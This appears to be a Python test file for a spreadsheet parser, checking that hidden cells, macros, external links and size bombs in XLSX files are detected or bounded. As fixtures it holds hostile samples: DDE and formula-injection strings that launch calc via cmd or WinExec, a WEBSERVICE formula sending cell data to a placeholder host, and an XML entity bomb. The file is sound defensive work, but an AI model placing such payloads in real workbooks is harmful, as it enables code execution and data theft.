"""TEST: hidden cells, active content and outside data of workbooks are found; bombs and damage stay bounded."""

from collections.abc import Callable

import pytest

from contract.verdicts import Refusal
from parsers.blocks import ParsedDocument, Refused
from parsers.office.sheets import model
from tests.parsers.markup_cases import HIDDEN, VISIBLE, kinds_found, text_of
from tests.parsers.sheet_file import read_parts, read_sheet, rows_of, sst, styles, workbook_parts, worksheet
from tests.parsers.test_xlsx_cells import tables
from tests.parsers.word_file import relationships

SEEN = f'<c r="A1" t="inlineStr"><is><t>{VISIBLE}</t></is></c>'
UNSEEN = f'<c r="B{{row}}" s="{{style}}" t="inlineStr"><is><t>{HIDDEN}</t></is></c>'
WHITE = (
    '<font/><font><color rgb="FFFFFFFF"/></font><font><color theme="0"/></font><font><sz val="1"/></font>'
    '<font><color rgb="FF000000"/></font>'
)
FILLS = '<fill/><fill><patternFill patternType="solid"><fgColor rgb="FF000000"/></patternFill></fill>'


def everything(document: ParsedDocument) -> str:
    return text_of(document) + "\n".join(line for table in tables(document) for line in table)


def with_hidden_sheet(state: str) -> ParsedDocument:
    sheets = {"Seen": worksheet(rows_of([VISIBLE])), "Other": worksheet(rows_of([HIDDEN]))}
    return read_parts(workbook_parts(sheets, states={"Other": state}))


def with_cell(row: int = 1, style: int = 0, before: str = "", row_attributes: str = "") -> ParsedDocument:
    """One cell that everybody sees in A1, and one in column B."""
    cell = UNSEEN.format(row=row, style=style)
    rows = (
        f'<row r="1">{SEEN}{cell}</row>'
        if row == 1
        else f'<row r="1">{SEEN}</row><row r="2" {row_attributes}>{cell}</row>'
    )
    xfs = '<xf/><xf fontId="1"/><xf fontId="2"/><xf fontId="1" fillId="1"/><xf numFmtId="164"/><xf fontId="3"/>'
    xfs += '<xf fillId="1"/><xf fontId="4" fillId="1"/>'
    look = styles({164: ";;;"}, WHITE, FILLS, xfs)
    return read_sheet(worksheet(rows, before=before), {"xl/styles.xml": look})


@pytest.mark.parametrize(
    "read",
    [
        lambda: with_hidden_sheet("hidden"),
        lambda: with_hidden_sheet("veryHidden"),
        lambda: with_cell(row=2, row_attributes='hidden="1"'),
        lambda: with_cell(row=2, row_attributes='ht="0" customHeight="1"'),
        lambda: with_cell(before='<cols><col min="2" max="3" hidden="1"/></cols>'),
        lambda: with_cell(before='<cols><col min="2" max="2" width="0"/></cols>'),
        lambda: with_cell(style=1),
        lambda: with_cell(style=2),
        lambda: with_cell(style=4),
        lambda: with_cell(style=5),
        lambda: with_cell(style=6),
        lambda: with_cell(style=7),
    ],
)
def test_what_a_reader_does_not_see_stays_out_and_is_found(read: Callable[[], ParsedDocument]) -> None:
    document = read()
    assert VISIBLE in everything(document)
    assert HIDDEN not in everything(document)
    (finding,) = document.findings
    assert (finding.kind, finding.severity) == ("hidden_text", "medium")
    assert HIDDEN in finding.evidence


def test_white_letters_on_a_dark_fill_are_seen() -> None:
    document = with_cell(style=3)
    assert HIDDEN in everything(document)
    assert document.findings == []


def test_hidden_rows_leave_no_gap_in_a_table() -> None:
    rows = rows_of(["Item", "Price"], ["Pen", 1]) + '<row r="3" hidden="1"><c r="A3"><v>9</v></c></row>'
    rows += rows_of(["Ink", 2], start=4)
    assert tables(read_sheet(worksheet(rows))) == [["| Item | Price |", "| Pen | 1 |", "| Ink | 2 |"]]


def test_two_cells_at_the_ends_of_a_sheet_cost_two_cells() -> None:
    """The last cell of the last row: a grid of all cells between would have seventeen thousand million."""
    rows = f'<row r="1">{SEEN}</row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>end</t></is></c></row>'
    document = read_sheet(worksheet(rows, before='<dimension ref="A1:XFD1048576"/>'))
    assert text_of(document) == f"Sheet1\n{VISIBLE}\nend"


def test_scattered_cells_are_not_aligned_in_a_square() -> None:
    """A diagonal: each row one cell further to the right."""
    letters = [chr(65 + at // 26 - 1) + chr(65 + at % 26) if at >= 26 else chr(65 + at) for at in range(600)]
    rows = "".join(f'<row r="{at}"><c r="{name}{at}"><v>{at}</v></c></row>' for at, name in enumerate(letters, 1))
    (table,) = tables(read_sheet(worksheet(rows)))
    assert table[1:3] == ["| 2 |", "| 3 |"]


def test_merges_over_everything_are_clipped_to_what_is_there() -> None:
    """A merged range claims every cell of the sheet in thirty bytes, a thousand times over."""
    merges = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 1000 + '<mergeCell ref="A2:B1048576"/></mergeCells>'
    document = read_sheet(worksheet(rows_of(["a", "b"], ["c", "d"]), after=merges))
    assert everything(document) == "Sheet1\n| a |"
    assert [finding.evidence for finding in document.findings] == ["3 cells: b c d"]


def test_one_long_string_shared_by_many_cells_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    """32,767 characters in one string, and a cell of ten bytes for each time they would be shown."""
    monkeypatch.setattr(model.Budget.__init__, "__defaults__", (1000, 200_000, False))
    strings = sst("<t>" + "x" * 32_767 + "</t>")
    rows = "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(1, 500))
    document = read_sheet(worksheet(rows), {"xl/sharedStrings.xml": strings})
    assert kinds_found(document) == {"truncated"}
    assert len(everything(document)) < 250_000


def test_entities_are_not_expanded() -> None:
    """Nine levels of ten entities each make a thousand million words of a kilobyte."""
    levels = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 9))
    bomb = f'<!DOCTYPE sst [<!ENTITY e0 "lol">{levels}]>' + sst("<t>&e8;</t>", "<t>after</t>")
    sheet = worksheet('<row r="1"><c r="A1" t="s"><v>1</v></c><c r="B1" t="s"><v>0</v></c></row>')
    document = read_sheet(sheet, {"xl/sharedStrings.xml": bomb})
    assert "lol" not in everything(document)
    assert "external_entity" in kinds_found(document)


def test_a_sheet_is_read_up_to_its_damage() -> None:
    broken = worksheet(rows_of(["kept"], ["lost"])).replace("lost", "lost</v>")
    document = read_sheet(broken)
    assert "kept" in everything(document)
    assert kinds_found(document) == {"truncated"}


def test_a_workbook_without_its_part_is_corrupt() -> None:
    parts = workbook_parts({"S": worksheet("")})
    del parts["xl/workbook.xml"]
    with pytest.raises(Refused) as refused:
        read_parts(parts)
    assert refused.value.refusal is Refusal.CORRUPT


def test_parts_that_are_missing_cost_only_themselves() -> None:
    parts = workbook_parts({"Gone": "", "There": worksheet(rows_of(["x"]))}, linked=[("a", "styles", "no.xml", False)])
    del parts["xl/worksheets/sheet1.xml"]
    assert text_of(read_parts(parts)) == "There\nx"


def test_strings_that_no_relationship_names_are_found() -> None:
    sheet = worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    parts = workbook_parts({"S": sheet}, {"xl/SharedStrings.xml": sst("<t>found</t>")})
    assert text_of(read_parts(parts)) == "S\nfound"


def test_a_sheet_listed_a_thousand_times_is_read_once() -> None:
    parts = workbook_parts({"S": worksheet(rows_of(["x"]))})
    listed = '<sheet name="S" sheetId="1" r:id="s1"/>'
    assert isinstance(parts["xl/workbook.xml"], str)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace("<sheets>", "<sheets>" + listed * 900)
    assert text_of(read_parts(parts)) == "S\nx"


@pytest.mark.parametrize(
    "formula",
    ["cmd|'/c calc'!A0", 'WEBSERVICE("http://a.example/?"&amp;A1)', 'CALL("kernel32","WinExec","JCJ","calc",0)'],
)
def test_formulas_that_run_or_fetch_something_are_found(formula: str) -> None:
    document = read_sheet(worksheet(f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row>'))
    (finding,) = document.findings
    assert (finding.kind, finding.severity) == ("active_content", "high")


def test_dynamic_data_exchange_is_found() -> None:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    parts = workbook_parts(
        {"S": worksheet(rows_of(["x"]))}, {"xl/externalLinks/externalLink1.xml": link},
        [("e", "externalLink", "externalLinks/externalLink1.xml", False)],
    )  # fmt: skip
    (finding,) = read_parts(parts).findings
    assert (finding.kind, finding.evidence) == ("active_content", "DDE: cmd /c calc")


def test_connections_are_found_without_their_passwords() -> None:
    part = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1">'
        '<dbPr connection="Server=db.example;User=u;Password=s3cret;Timeout=3"/></connection></connections>'
    )
    parts = workbook_parts(
        {"S": worksheet(rows_of(["x"]))}, {"xl/connections.xml": part}, [("c", "connections", "connections.xml", False)]
    )
    (finding,) = read_parts(parts).findings
    assert finding.kind == "external_reference"
    assert "db.example" in finding.evidence
    assert "s3cret" not in finding.evidence


def test_other_workbooks_and_macros_are_found() -> None:
    others = {
        "xl/vbaProject.bin": b"\xd0\xcf", "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
            [("r", "externalLinkPath", "file:///C:/secret/other.xlsx", True)]
        ),
        "xl/embeddings/oleObject1.bin": b"x",
    }  # fmt: skip
    document = read_sheet(worksheet(rows_of(["x"])), others)
    assert kinds_found(document) == {"active_content", "external_reference", "embedded_file"}


def test_a_macro_sheet_is_found() -> None:
    parts = workbook_parts(
        {"S": worksheet(rows_of(["x"]))}, linked=[("m", "xlMacrosheet", "macrosheets/sheet1.xml", False)]
    )
    assert kinds_found(read_parts(parts)) == {"active_content"}


def test_the_same_workbook_gives_the_same_blocks() -> None:
    sheet = worksheet(rows_of(["Item", "Price"], ["Pen", 1], ["Ink", 2]))
    assert repr(read_sheet(sheet).blocks) == repr(read_sheet(sheet).blocks)
